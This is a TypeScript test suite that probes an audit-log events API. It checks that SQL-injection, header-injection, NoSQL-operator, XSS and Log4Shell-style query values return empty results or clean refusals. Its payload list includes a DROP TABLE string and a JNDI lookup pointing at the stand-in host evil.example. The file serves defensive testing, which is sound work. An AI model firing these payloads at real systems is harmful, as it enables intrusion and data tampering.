import { beforeAll, describe, expect, test } from 'vitest';
import { events, expectStory } from '../../stack/audit-log.ts';
import { issueTicket } from '../../stack/visitor.ts';
import type { Stack } from '../../stack/stack.ts';
import { askRaw, type RawAnswer } from './ask-raw.ts';
import { badQueries, cursorOf, facts } from './bad-queries.ts';

const EVENTS = '/api/v1/audit/events';

const texts = [
  "' OR '1'='1",
  "'; DROP TABLE event; --",
  "x' UNION SELECT version() --",
  '$1',
  '%',
  '\\',
  'a\r\nSet-Cookie: b=c',
  '\u001b[31m',
  '\0',
  '\ufffd',
  '{"$ne":null}',
  `\${jndi:ldap://evil.example/a}`,
  '<script>alert(1)</script>',
];

/** Says how the trail answers any query. @param running known when the tests run */
export function describeAuditQueries(running: () => Stack): void {
  let operator: string;

  beforeAll(async () => {
    operator = await running().operatorToken();
    const { ticketId } = await issueTicket(running());
    await expectStory(running(), { ticket: ticketId }, ['admit.ticket.issued']);
  });

  /** Asks for a path as it is, with nothing encoded that was not. */
  function ask(target: string): Promise<RawAnswer> {
    return askRaw(running().audit, `GET ${target} HTTP/1.1`, [
      'Host: test',
      `Authorization: Bearer ${operator}`,
    ]);
  }

  describe('a search for what is not there finds nothing', () => {
    test.each(facts.flatMap((fact) => texts.map((text) => [fact, text])))('%s %j', async (fact, text) => {
      const answer = await ask(`${EVENTS}?${fact}=${encodeURIComponent(text)}`);
      expect(answer.status).toBe(200);
      expect(JSON.parse(answer.body)).toEqual({ events: [], next: null });
      expect(Object.keys(answer.headers)).not.toContain('set-cookie');
    });
  });

  describe('a query is refused by the name of its parameter', () => {
    test.each(badQueries)('?%s', async (query, detail) => {
      const { status, headers, problem, body } = await ask(`${EVENTS}?${query}`);
      expect(problem, body.slice(0, 300)).toMatchObject({
        status: 400,
        code: 'INVALID_REQUEST',
        detail: expect.stringContaining(detail),
      });
      expect(status).toBe(400);
      expect(headers).toMatchObject({ 'cache-control': 'no-store', 'x-content-type-options': 'nosniff' });
      expect(problem?.detail.length).toBeLessThan(700);
    });

    test('and where there are none, too', async () => {
      expect(await ask('/api/v1/audit/sequences?limit=1')).toMatchObject({
        status: 400,
        problem: { code: 'INVALID_REQUEST', detail: 'There is no parameter "limit" here, only incomplete.' },
      });
    });
  });

  describe('a query that is odd is answered', () => {
    test.each([
      'from=0000-01-01T00:00:00Z&to=9999-12-31T23:59:59.999Z',
      'from=9999-12-31T23:59:59Z&to=0000-01-01T00:00:00Z',
      'from=2026-01-01T00:00:00.123456789012345678901234567890Z',
      'from=2026-01-01t00:00:00z',
      'from=2026-01-01T00:00:00-23:59',
      'limit=1000&order=desc',
      'limit=0x10',
      'limit=1e2',
      'type=admit.ticket.issued&type=admit.ticket.issued',
      `cursor=${cursorOf(0, "p00' OR 1=1 --", '9999999999999999', '\ud800')}`,
      `user=${'%F0%9F%98%80'.repeat(250)}`,
      'user=%ff%fe',
      'user=%zz',
      '&&&',
    ])('?%s', async (query) => {
      const answer = await ask(`${EVENTS}?${query}`);
      expect(answer.status, answer.body.slice(0, 300)).toBe(200);
      expect(JSON.parse(answer.body)).toMatchObject({ events: expect.any(Array) });
    });

    test('a cursor that was cut, or that another page gave, is refused or goes on behind its place, and no further', async () => {
      const all = await events(running(), {});
      const page = JSON.parse((await ask(`${EVENTS}?limit=1`)).body) as { next: string };
      for (let length = 0; length < page.next.length; length += 1) {
        const cut = await ask(`${EVENTS}?cursor=${page.next.slice(0, length)}`);
        expect(cut).toMatchObject({ status: 400, problem: { code: 'INVALID_REQUEST' } });
      }
      const rest = JSON.parse((await ask(`${EVENTS}?type=admit.ticket.issued&cursor=${page.next}`)).body);
      const expected = all.slice(1).filter(({ type }) => type === 'admit.ticket.issued');
      expect(rest.events).toEqual(expected);
    });
  });
}
